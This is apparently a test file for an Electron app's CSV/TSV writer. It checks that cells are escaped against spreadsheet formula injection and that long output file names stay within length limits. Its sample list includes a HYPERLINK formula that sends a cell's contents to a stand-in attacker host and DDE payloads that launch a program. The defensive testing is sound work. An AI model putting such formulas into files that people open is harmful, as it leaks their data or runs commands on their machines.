import { describe, expect, it } from 'vitest';
import { CsvParser } from '../../../electron/services/datasets/csv-reader.ts';
import { delimitedRecord, originalCell, safeCell } from '../../../electron/services/util/csv-cells.ts';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '-3.5+1',
  '- 3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
];

function parse(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  const parser = new CsvParser(delimiter, (fields) => rows.push(fields));
  parser.push(text);
  parser.end();
  return rows;
}

describe('spreadsheet-safe CSV/TSV cells (OWASP CSV injection)', () => {
  it.each(HOSTILE)('puts one quote in front of %j', (cell) => {
    expect(safeCell(cell)).toBe(`'${cell}`);
    expect(originalCell(safeCell(cell))).toBe(cell);
  });

  it('leaves plain numbers, ordinary text and empty cells alone', () => {
    for (const cell of ['-3.5', '+2', '-1e-9', '-.5', '0.25', '42', 'billing', 'a=b', ' =1+1', '']) expect(safeCell(cell)).toBe(cell);
  });

  it('doubles a leading quote so that removing one leading quote always gives the original back', () => {
    for (const cell of ["'", "'=1+1", "'tis", "''"]) {
      expect(safeCell(cell)).toBe(`'${cell}`);
      expect(originalCell(safeCell(cell))).toBe(cell);
    }
  });

  it.each([',', '\t'] as const)('writes records a CSV reader splits back into the original cells (delimiter %j)', (delimiter) => {
    const cells = [...HOSTILE, '-3.5', 'a,b', 'say "hi"', 'two\nlines', "'quoted", 'tab\there', ''];
    const text = delimitedRecord(cells, delimiter);
    const [row] = parse(text, delimiter);
    expect(row).toHaveLength(cells.length);
    expect(row.map(originalCell)).toEqual(cells);
    // Nothing a spreadsheet would run: every written cell that starts with a trigger is a plain number.
    for (const written of row) if (/^[=+\-@\t\r\0]/.test(written)) expect(written).toMatch(/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/);
  });

  it('keeps a record with one empty cell from reading as a blank line', () => {
    expect(delimitedRecord([''], ',')).toBe('""\n');
  });
});

describe('the labelled file name', () => {
  it('stays under the file system limit for a 246-character input name, with room for its temporary twin', async () => {
    const { labelledPath } = await import('../../../electron/services/predict/save.ts');
    const { mkdtempSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { basename, join } = await import('node:path');
    const folder = mkdtempSync(join(tmpdir(), 'airlock-names-'));
    const name = basename(labelledPath(folder, `new tickets ${'y'.repeat(230)}.csv`, 'csv'));
    expect(Buffer.byteLength(`.${name}.3e46bb55.partial`)).toBeLessThanOrEqual(255);
    expect(name).toMatch(/^new tickets y+-predictions\.csv$/);
  });
});
